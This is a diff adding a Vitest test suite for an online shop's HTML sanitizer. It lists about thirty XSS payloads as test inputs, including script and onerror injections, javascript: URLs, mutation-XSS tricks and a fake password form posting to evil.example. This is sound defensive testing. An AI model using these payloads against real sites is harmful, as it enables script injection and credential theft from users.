@@ -1,0 +1,106 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { cleanHtml, plainText } from './clean-html.ts'
+
+const kept = [
+  '<p>Plain <strong>bold</strong> <em>soft</em> <b>b</b> <i>i</i> <u>u</u> <s>s</s></p>',
+  '<h2>Two</h2><h3>Three</h3><ul><li>One</li></ul><ol start="3"><li>Three</li></ol>',
+  '<p style="text-align:center"><span style="color:#ff0000;font-size:18pt">Large</span></p>',
+  '<p style="color:rgb(1, 2, 3)">a</p><p style="color:teal">b</p>',
+  '<blockquote>Said</blockquote>',
+  '<table><thead><tr><th colspan="2">Size</th></tr></thead><tbody><tr><td rowspan="2">S</td></tr></tbody></table>',
+  '<p><a href="/privacy-policy">ours</a> <a href="mailto:a@b.example">mail</a> <a href="tel:+911234">call</a></p>',
+]
+for (const html of kept)
+  test(`what the editor makes stays: ${html.slice(0, 50)}`, () => expect(cleanHtml(html)).toBe(html))
+
+test('a link out of the shop passes nothing on', () => {
+  expect(cleanHtml('<a href="https://a.example" target="_blank" rel="me" onclick="x()">a</a>')).toBe(
+    '<a href="https://a.example" rel="noopener nofollow">a</a>',
+  )
+})
+
+test('a first heading becomes a second one', () => expect(cleanHtml('<h1>Title</h1>')).toBe('<h2>Title</h2>'))
+
+test('sizes and styles that the editor cannot make are left out', () => {
+  expect(cleanHtml('<p style="font-size:72pt;position:fixed;text-align:right">a</p>')).toBe(
+    '<p style="text-align:right">a</p>',
+  )
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><path/></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<p onclick="alert(1)" id="a" class="b">x</p>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="color:url(//evil.example/a)">x</p>',
+  '<p style="color:expression(alert(1))">x</p>',
+  '<p style="color:red;background-image:url(https://evil.example/pixel)">x</p>',
+  '<p style="font-size:18pt;}</style><script>alert(1)</script>">x</p>',
+  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<object data="x"></object><embed src="x"><video src=x onerror=alert(1)>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<td colspan="1 onmouseover=alert(1)">x</td>',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '"><img src=x onerror=alert(1)>',
+]
+const allowedTag =
+  /^<\/?(?:p|h[2-6]|ul|ol|li|blockquote|strong|em|b|i|u|s|a|span|br|table|caption|thead|tbody|tfoot|tr|th|td)(?:\s|\/?>)/
+const allowedAttribute = /^(?:href|rel|start|style|colspan|rowspan)$/
+
+/** What a browser would see as tags, with their attributes. */
+function expectHarmless(clean: string) {
+  for (const [tag] of clean.matchAll(/<[^>]*>?/g)) {
+    expect(tag).toMatch(allowedTag)
+    for (const [, name, value] of tag.matchAll(/\s([^\s=>]+)="([^"]*)"/g)) {
+      expect(name).toMatch(allowedAttribute)
+      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#|$)/i)
+      if (name === 'style') expect(value).not.toMatch(/url|expression|import|javascript/i)
+    }
+  }
+}
+
+for (const html of attacks) test(`nothing of this can run: ${html.slice(0, 60)}`, () => expectHarmless(cleanHtml(html)))
+
+test('any mixture of attacks and markup is harmless, and clean HTML is clean', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(...attacks, ...kept, '<', '>', '"', "'", '&lt;', '</p>', '<!--', '-->', ' style=', '<p '),
+    fc.string(),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
+      const clean = cleanHtml(pieces.join(''))
+      expectHarmless(clean)
+      expect(cleanHtml(clean)).toBe(clean)
+    }),
+    { numRuns: 300 },
+  )
+})
+
+test('deep nesting does not bring the cleaner down', () => {
+  expect(cleanHtml(`${'<b>'.repeat(50_000)}x`).length).toBeLessThan(1000)
+})
+
+test('plain text keeps the words, apart, and nothing else', () => {
+  const html =
+    '<h3>Cotton &amp; silk</h3><p>Soft<br>and light, 5 &lt; 6</p><ul><li>One</li><li>Two</li></ul><script>x()</script>'
+
+  expect(plainText(html)).toBe('Cotton & silk Soft and light, 5 < 6 One Two')
+})
